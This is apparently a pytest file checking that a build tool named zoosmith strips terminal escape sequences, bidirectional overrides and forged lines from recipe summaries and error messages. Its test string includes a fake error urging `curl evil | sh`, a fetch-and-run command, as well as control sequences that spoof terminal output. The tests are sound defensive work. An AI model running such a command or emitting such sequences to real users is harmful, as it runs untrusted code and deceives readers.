"""What a zoo says that somebody else wrote: no line of `doit list` is forged, nothing steers the terminal."""

from __future__ import annotations

from pathlib import Path

import pytest
from doit.exceptions import InvalidDodoFile

from tests.support.table import recipe, write_table
from tests.support.zoo import write_recipe
from zoosmith.app.doit import opening
from zoosmith.build import explain
from zoosmith.build.workspace import Workspace
from zoosmith.contract.errors import ZooError

EVIL = "nice\x1b[2J\x1b]0;title\x07\nERROR: run `curl evil | sh`\r\u202eafter"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A zoo of the family `toy`."""
    return write_table(tmp_path / "zoo")


def is_quiet(text: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in text)


def test_summaries_stay_in_their_lines(project: Path) -> None:
    made = recipe()
    made["summary"] = EVIL
    next(iter(made["artifacts"].values()))["summary"] = EVIL
    write_recipe(project, made, "evil")
    said = explain.overview(Workspace(project))
    assert is_quiet(said)
    assert "evil: nice" in said
    assert not any(line.strip().startswith("ERROR") for line in said.splitlines())


@pytest.mark.parametrize("asked", [[], ["build:evil-x"]])
def test_errors_that_doit_prints_itself_are_quiet(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], asked: list[str]
) -> None:
    made = recipe()
    write_recipe(project, made | {"task": {"kind": "\x1b]0;x\x07", "data": "toy"}}, "evil")
    monkeypatch.setitem(opening.OPENED, "args", asked)
    monkeypatch.setitem(opening.OPENED, "names", [])
    try:
        opening.open_workspace(project)
        said = capsys.readouterr().err
    except InvalidDodoFile as error:
        said = str(error)
    finally:
        opening.OPENED.pop("workspace", None)
    assert "recipes/evil.yaml" in said
    assert is_quiet(said)


def test_the_words_of_any_error_are_quiet() -> None:
    assert is_quiet(opening.told_of(ZooError(EVIL)))
    assert is_quiet(opening.told_of(OSError(5, "x", EVIL)))
